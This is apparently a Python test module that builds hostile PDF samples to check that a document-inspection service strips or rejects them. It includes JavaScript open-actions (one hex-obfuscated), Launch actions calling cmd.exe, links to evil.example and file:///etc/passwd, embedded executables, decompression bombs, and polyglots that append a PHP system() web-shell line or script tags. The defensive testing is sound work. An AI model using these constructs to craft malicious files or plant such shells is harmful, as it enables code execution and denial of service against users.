# ruff: noqa: E501 - rows of hostile values and of markup stay on their lines
"""Hostile PDFs: scripts, actions, attachments, protection, broken and endless structure."""

from __future__ import annotations

import io
import zlib
from collections.abc import Iterator

import pikepdf

from apps.documents.inspection.outcome import Reason, Removed
from tests.hostile_files.case import ANY, Case
from tests.hostile_files.samples import packed, pdf, stream

ACTION, SCRIPT = frozenset({Removed.ACTION}), frozenset({Removed.SCRIPT})
ATTACHMENT, MEDIA = frozenset({Removed.ATTACHMENT}), frozenset({Removed.MEDIA})
JS = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
JS_GONE = (b"/JavaScript", b"app.alert", b"/JS")
LAUNCH = "<< /S /Launch /F (cmd.exe) >>"
LINK = "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A {} >>]"
FORM = "/AcroForm << /Fields [] {} >>"


def cases() -> Iterator[Case]:
    yield from active()
    yield from attached()
    yield from revised()
    yield from structure()
    yield from two_at_once()


def active() -> Iterator[Case]:
    yield Case("pdf-plain", "plain.pdf", pdf(), None)
    yield Case("pdf-open-action", "a.pdf", pdf(catalog=f"/OpenAction {JS}"), None, SCRIPT, JS_GONE)
    indirect = pdf(catalog="/OpenAction 6 0 R", objects=(JS,))
    yield Case("pdf-open-action-indirect", "a.pdf", indirect, None, SCRIPT, JS_GONE)
    stored = pdf(catalog="/OpenAction 6 0 R", objects=("<< /S /JavaScript /JS 7 0 R >>", stream(b"app.alert(1)")))
    yield Case("pdf-script-in-stream", "a.pdf", stored, None, SCRIPT, JS_GONE)
    squeezed = pdf(
        catalog="/OpenAction 6 0 R",
        objects=("<< /S /JavaScript /JS 7 0 R >>", stream(zlib.compress(b"app.alert(1)"), "/Filter /FlateDecode")),
    )
    yield Case("pdf-script-in-packed-stream", "a.pdf", squeezed, None, SCRIPT, JS_GONE)
    hidden = pdf(catalog="/OpenAction << /S /J#61vaScript /#4A#53 (app.alert\\(1\\)) >>")
    yield Case("pdf-script-spelt-in-hex", "a.pdf", hidden, None, SCRIPT, JS_GONE)
    yield Case("pdf-open-destination", "a.pdf", pdf(catalog="/OpenAction [3 0 R /Fit]"), None)
    yield Case(
        "pdf-names-script",
        "a.pdf",
        pdf(catalog=f"/Names << /JavaScript << /Names [(a) {JS}] >> >>"),
        None,
        SCRIPT,
        JS_GONE,
    )
    yield Case("pdf-page-opens", "a.pdf", pdf(page=f"/AA << /O {JS} >>"), None, ACTION | SCRIPT, JS_GONE)
    yield Case("pdf-document-closes", "a.pdf", pdf(catalog=f"/AA << /WC {JS} >>"), None, ACTION | SCRIPT, JS_GONE)
    yield Case(
        "pdf-field-format", "a.pdf", pdf(catalog=FORM.format(f"/AA << /F {JS} >>")), None, ACTION | SCRIPT, JS_GONE
    )
    for kind, extra in (
        ("Launch", "/F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >>"),
        ("SubmitForm", "/F (http://evil.example/)"),
        ("ImportData", "/F (data.fdf)"),
        ("GoToR", "/F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit]"),
        ("GoToE", "/T << /R /C /N (inner) >>"),
        ("Hide", "/T (field)"),
        ("ResetForm", ""),
        ("SetOCGState", "/State []"),
        ("Thread", "/F (a.pdf) /D 0"),
        ("Trans", ""),
        ("GoTo3DView", ""),
        ("UnknownToAll", ""),
    ):
        action = f"<< /S /{kind} {extra} >>"
        yield Case(f"pdf-link-{kind}", "a.pdf", pdf(page=LINK.format(action)), None, ACTION, (f"/{kind}".encode(),))
        yield Case(
            f"pdf-open-{kind}", "a.pdf", pdf(catalog=f"/OpenAction {action}"), None, ACTION, (f"/{kind}".encode(),)
        )
    for kind in ("Rendition", "Movie", "Sound", "RichMediaExecute"):
        page = pdf(page=LINK.format(f"<< /S /{kind} >>"))
        yield Case(f"pdf-link-{kind}", "a.pdf", page, None, ACTION, (f"/{kind}".encode(),))
    yield Case("pdf-link-script", "a.pdf", pdf(page=LINK.format(JS)), None, SCRIPT, JS_GONE)
    for number, target in enumerate(
        ("file:///etc/passwd", "javascript:alert(1)", "\\\\\\\\evil\\\\share", "data:text/html,x", "smb://e/x")
    ):
        page = pdf(page=LINK.format(f"<< /S /URI /URI ({target}) >>"))
        yield Case(f"pdf-link-uri-{number}", "a.pdf", page, None, frozenset({Removed.LINK}), (target[:8].encode(),))
    for number, target in enumerate(("https://firm.example/a", "mailto:a@firm.example", "HTTP://firm.example")):
        yield Case(f"pdf-link-web-{number}", "a.pdf", pdf(page=LINK.format(f"<< /S /URI /URI ({target}) >>")), None)
    yield Case(
        "pdf-named-print", "a.pdf", pdf(page=LINK.format("<< /S /Named /N /Print >>")), None, ACTION, (b"/Print",)
    )
    yield Case("pdf-named-next", "a.pdf", pdf(page=LINK.format("<< /S /Named /N /NextPage >>")), None)
    chain = pdf(page=LINK.format(f"<< /S /GoTo /D [3 0 R /Fit] /Next {JS} >>"))
    yield Case("pdf-chained-script", "a.pdf", chain, None, ACTION | SCRIPT, JS_GONE)
    chains = pdf(page=LINK.format(f"<< /S /GoTo /D [3 0 R /Fit] /Next [{JS} {LAUNCH}] >>"))
    yield Case("pdf-chained-list", "a.pdf", chains, None, ACTION | SCRIPT, (*JS_GONE, b"/Launch"))
    yield Case("pdf-unreferenced-script", "a.pdf", pdf(objects=(JS,)), None, SCRIPT, JS_GONE)
    yield Case(
        "pdf-outline-launch",
        "a.pdf",
        pdf(catalog=f"/Outlines << /First << /Title (x) /A {LAUNCH} >> >>"),
        None,
        ACTION,
        (b"/Launch",),
    )
    cycle = pdf(
        catalog="/OpenAction 6 0 R",
        objects=(
            "<< /S /GoTo /D [3 0 R /Fit] /Next 7 0 R >>",
            "<< /S /JavaScript /JS (app.alert\\(1\\)) /Next 6 0 R >>",
        ),
    )
    yield Case("pdf-cyclic-actions", "a.pdf", cycle, None, ACTION | SCRIPT, JS_GONE)


def attached() -> Iterator[Case]:
    file = "<< /Type /Filespec /F (a.exe) /UF (a.exe) /EF << /F 7 0 R >> >>"
    body = stream(b"MZ-payload-of-a-program", "/Type /EmbeddedFile")
    gone = (b"MZ-payload", b"/EmbeddedFile", b"/EF")
    names = "/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>"
    yield Case("pdf-attachment", "a.pdf", pdf(catalog=names, objects=(file, body)), None, ATTACHMENT, gone)
    yield Case("pdf-attachment-af", "a.pdf", pdf(catalog="/AF [6 0 R]", objects=(file, body)), None, ATTACHMENT, gone)
    note = "/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 6 0 R >>]"
    yield Case(
        "pdf-attachment-note",
        "a.pdf",
        pdf(page=note, objects=(file, body)),
        None,
        ATTACHMENT,
        (*gone, b"/FileAttachment"),
    )
    yield Case(
        "pdf-portfolio",
        "a.pdf",
        pdf(catalog=f"/Collection << >> {names}", objects=(file, body)),
        None,
        ATTACHMENT,
        (*gone, b"/Collection"),
    )
    yield Case(
        "pdf-private-data",
        "a.pdf",
        pdf(page="/PieceInfo << /App << /Private 6 0 R >> >>", objects=(body,)),
        None,
        ATTACHMENT,
        gone,
    )
    for kind in ("RichMedia", "Screen", "Movie", "Sound", "3D"):
        page = f"/Annots [<< /Type /Annot /Subtype /{kind} /Rect [0 0 9 9] /RichMediaContent << >> >>]"
        yield Case(f"pdf-media-{kind}", "a.pdf", pdf(page=page), None, MEDIA, (f"/{kind}".encode(),))
    form = pdf(catalog=FORM.format("/XFA 6 0 R"), objects=(stream(b"<xdp:xdp><script>x</script></xdp:xdp>"),))
    yield Case("pdf-xfa", "a.pdf", form, None, frozenset({Removed.FORM_XFA}), (b"/XFA", b"<xdp"))
    parts = pdf(catalog=FORM.format("/XFA [(template) 6 0 R]"), objects=(stream(b"<xdp:xdp/>"),))
    yield Case("pdf-xfa-parts", "a.pdf", parts, None, frozenset({Removed.FORM_XFA}), (b"/XFA", b"<xdp"))
    outside = pdf(objects=(stream(b"", "/F (\\\\\\\\evil\\\\share) /FFilter /FlateDecode"),), page="/Extra 6 0 R")
    yield Case("pdf-external-stream", "a.pdf", outside, None, frozenset({Removed.EXTERNAL_STREAM}), (b"evil",))
    reference = pdf(
        objects=(stream(b"", "/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Ref << /F (evil.pdf) /Page 0 >>"),),
        page="/Extra 6 0 R",
    )
    yield Case("pdf-reference-form", "a.pdf", reference, None, frozenset({Removed.EXTERNAL_STREAM}), (b"evil",))
    signature = "<< /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 1 2 3] /Contents <00> >>"
    yield Case("pdf-signed", "a.pdf", pdf(objects=(signature,)), None)
    shifted = pdf(objects=(signature,)).replace(b"endobj\n", b"endobj\n<html><script>alert(1)</script></html>\n", 1)
    yield Case("pdf-signed-repaired", "a.pdf", shifted, Reason.MALFORMED)
    yield Case(
        "pdf-signed-active",
        "a.pdf",
        pdf(catalog=f"/OpenAction {JS}", objects=(signature,)),
        Reason.SIGNED_WITH_ACTIVE_CONTENT,
    )


def revised() -> Iterator[Case]:
    """Signed files that were changed since: a reader shows the version that was signed as well."""
    signature = "<< /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 1 2 3] /Contents <00> >>"
    active, harmless = pdf(catalog=f"/OpenAction {JS}"), pdf()
    catalog, refused = {1: "<< /Type /Catalog /Pages 2 0 R >>"}, Reason.SIGNED_WITH_ACTIVE_CONTENT
    yield Case("pdf-signed-revised", "a.pdf", again(harmless, {**catalog, 6: signature}), None)
    yield Case("pdf-signed-over-script", "a.pdf", again(active, {**catalog, 6: signature}), refused)
    unended = again(active.removesuffix(b"%%EOF\n"), {**catalog, 6: signature})
    yield Case("pdf-signed-over-script-unended", "a.pdf", unended, refused)
    between = again(again(harmless, {6: signature, 7: LAUNCH}), {7: "null"})
    yield Case("pdf-signed-over-launch", "a.pdf", between, refused)
    attached_once = pdf(
        catalog="/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>",
        objects=("<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", stream(b"MZ", "/Type /EmbeddedFile")),
    )
    bare = {**catalog, 6: "null", 7: "null", 8: signature}
    yield Case("pdf-signed-over-attachment", "a.pdf", again(attached_once, bare), refused)
    marked = again(pdf(text="TOP SECRET"), {4: "<< /Length 0 >>\nstream\n\nendstream", 6: signature})
    yield Case("pdf-signed-over-marking", "a.pdf", marked, Reason.MARKED_CLASSIFIED)
    broken = again(b"%PDF-1.7\n%%EOF\n" + harmless[9:], {6: signature})
    yield Case("pdf-signed-over-nothing", "a.pdf", broken, Reason.MALFORMED)
    many = again(harmless, {6: signature})
    for _ in range(40):
        many = again(many, catalog)
    yield Case("pdf-signed-many-revisions", "a.pdf", many, Reason.TOO_COMPLEX)
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf(objects=(signature,), catalog="/Signed 6 0 R"))) as document:
        document.save(out, linearize=True, deterministic_id=True)
    yield Case("pdf-signed-linearized", "a.pdf", out.getvalue(), None)


def again(whole: bytes, changed: dict[int, str]) -> bytes:
    """A PDF with a further revision that changes or adds objects."""
    out, offsets = whole, {}
    for number, body in sorted(changed.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body.encode())
    table, before = len(out), int(whole[whole.rindex(b"startxref") + 9 :].split()[0])
    out += b"xref\n" + b"".join(b"%d 1\n%010d 00000 n \n" % each for each in offsets.items())
    size = max(int(whole[whole.rindex(b"/Size") + 5 :].split()[0]), max(changed) + 1)
    return out + b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, before, table)


def structure() -> Iterator[Case]:
    whole = pdf()
    for user in ("", "secret"):
        document = pikepdf.open(io.BytesIO(whole))
        out = io.BytesIO()
        document.save(out, encryption=pikepdf.Encryption(owner="owner", user=user, R=6))
        yield Case(f"pdf-encrypted-{user or 'open'}", "a.pdf", out.getvalue(), Reason.ENCRYPTED)
    yield Case("pdf-truncated", "a.pdf", whole[: len(whole) // 2], Reason.TRUNCATED)
    yield Case("pdf-header-only", "a.pdf", b"%PDF-1.7\n", Reason.TRUNCATED)
    yield Case("pdf-empty-body", "a.pdf", b"%PDF-1.7\n%%EOF\n", Reason.MALFORMED)
    yield Case("pdf-version", "a.pdf", pdf(version="9.9"), Reason.MALFORMED)
    yield Case("pdf-no-pages", "a.pdf", pdf(pages="/Kids [] /Count 0"), Reason.MALFORMED)
    yield Case("pdf-cyclic-pages", "a.pdf", pdf(pages="/Kids [3 0 R 2 0 R] /Count 2"), Reason.MALFORMED)
    yield Case(
        "pdf-cyclic-kid",
        "a.pdf",
        pdf(pages="/Kids [6 0 R] /Count 1", objects=("<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>",)),
        Reason.MALFORMED,
    )
    many = "/Kids [" + "3 0 R " * 5_001 + "] /Count 5001"
    yield Case("pdf-too-many-pages", "a.pdf", pdf(pages=many), Reason.TOO_MANY_PAGES)
    yield Case("pdf-deep-arrays", "a.pdf", pdf(page="/Deep " + "[" * 20_000 + "]" * 20_000), ANY)
    yield Case("pdf-deep-dictionaries", "a.pdf", pdf(page="/Deep " + "<< /A " * 5_000 + "1" + " >>" * 5_000), ANY)
    yield Case("pdf-length-cycle", "a.pdf", pdf(objects=(b"<< /Length 6 0 R >>\nstream\nx\nendstream",)), ANY)
    yield Case("pdf-wrong-table", "a.pdf", whole.replace(b"0000000015", b"0000009999"), ANY)
    yield Case(
        "pdf-table-cycle", "a.pdf", pdf(trailer=f"/Prev {whole.rindex(b'xref', 0, whole.rindex(b'startxref'))}"), ANY
    )
    bomb = zlib.compress(zlib.compress(b"\0" * 60_000_000, 9), 9)
    yield Case(
        "pdf-stream-bomb",
        "a.pdf",
        pdf(page="/Contents 6 0 R", objects=(stream(bomb, "/Filter [/FlateDecode /FlateDecode]"),)),
        ANY,
    )
    flood = zlib.compress(b"q " * 8_000_000, 9)
    content = pdf(objects=(stream(flood, "/Filter /FlateDecode"),)).replace(b"/Contents 4 0 R", b"/Contents 6 0 R")
    yield Case("pdf-content-flood", "a.pdf", content, ANY)
    inner = zlib.compress(b"9 0 " + b" " * 40_000_000 + b"<< >>", 9)
    yield Case(
        "pdf-object-stream-bomb",
        "a.pdf",
        pdf(objects=(stream(inner, "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"),)),
        ANY,
    )
    huge = pdf(
        objects=(
            stream(
                b"\xff" * 99,
                "/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /DCTDecode",
            ),
        )
    )
    yield Case("pdf-picture-flood", "a.pdf", huge, None)


def two_at_once() -> Iterator[Case]:
    whole, archive = pdf(), packed({"a.txt": "x"})
    yield Case("pdf-behind-html", "a.pdf", b"<html><script>1</script>" + whole, Reason.POLYGLOT)
    yield Case("pdf-behind-zip", "a.zip", archive + whole, Reason.POLYGLOT)
    yield Case("pdf-behind-text", "a.txt", b"hello\n" + whole, Reason.POLYGLOT)
    yield Case("pdf-then-zip", "a.pdf", whole + archive, Reason.POLYGLOT)
    yield Case("pdf-then-html", "a.pdf", whole + b"<html><body onload=alert(1)></body></html>", Reason.POLYGLOT)
    yield Case("pdf-then-script", "a.pdf", whole + b"<script>alert(1)</script>", Reason.POLYGLOT)
    yield Case("pdf-then-php", "a.pdf", whole + b"<?php system($_GET[0]); ?>", Reason.POLYGLOT)
    yield Case("pdf-then-program", "a.pdf", whole + b"\x7fELF\x02\x01\x01" + b"\0" * 64, Reason.POLYGLOT)
    yield Case(
        "pdf-then-noise", "a.pdf", whole + b"left over", None, frozenset({Removed.TRAILING_DATA}), (b"left over",)
    )
    yield Case("pdf-html-in-head", "a.pdf", b"%PDF-1.7\n<html><script>1</script>\n" + whole[9:], Reason.POLYGLOT)
    comment = archive[:-2] + len(whole).to_bytes(2, "little")
    yield Case("pdf-in-zip-comment", "a.pdf", whole[:9] + archive + whole[9:], ANY)
    yield Case("zip-comment-is-pdf", "a.zip", comment + whole, Reason.POLYGLOT)
    yield Case("pdf-named-png", "a.png", whole, Reason.EXTENSION_MISMATCH)
    yield Case("pdf-named-txt", "a.txt", whole, Reason.EXTENSION_MISMATCH)
    yield Case("pdf-named-exe", "a.exe", whole, Reason.EXTENSION_NOT_ALLOWED)
    yield Case("pdf-without-ending", "document", whole, Reason.EXTENSION_NOT_ALLOWED)
    yield Case("pdf-declared-png", "a.pdf", whole, Reason.DECLARED_TYPE_MISMATCH, declared="image/png")
    yield Case("pdf-declared-oddly", "a.pdf", whole, None, declared="text/html; charset=\x00")
